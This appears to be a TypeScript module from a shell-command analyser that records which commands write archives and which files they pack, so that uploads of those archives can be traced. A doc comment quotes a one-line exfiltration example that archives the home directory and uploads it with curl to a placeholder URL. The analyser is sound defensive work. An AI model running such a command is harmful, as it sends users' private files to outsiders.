import type { Call, Machine } from '../run/machine.ts';
import type { Located } from './paths.ts';

/** The archives that the text has made, and what was packed into them. */
export type Archives = {
  /** The commands that wrote an archive, by its path. */
  makers: Map<string, Set<number>>;
  /** The files that a command has packed. */
  packed: Map<number, Located[]>;
};

/** Notes that a command that packs has written an archive, or read a file. */
export function notePacking({ archives }: Machine, { index }: Call, kind: 'read' | 'write', at: Located): void {
  const { makers, packed } = archives;
  if (kind === 'write') {
    makers.set(at.path, (makers.get(at.path) ?? new Set()).add(index));
    return;
  }
  const files = packed.get(index) ?? [];
  files.push(at);
  packed.set(index, files);
}

/** An archive that the same text has made holds what was packed: `tar czf b.tgz ~ && curl -T b.tgz URL` sends the home. */
export function packedIn(machine: Machine, path: string): Located[] {
  const makers = machine.archives.makers.get(path);
  if (makers === undefined) return [];
  // What is over the budget is marked where it is noted.
  return [...makers].flatMap((maker) => machine.archives.packed.get(maker) ?? []).slice(0, machine.budget.paths + 1);
}
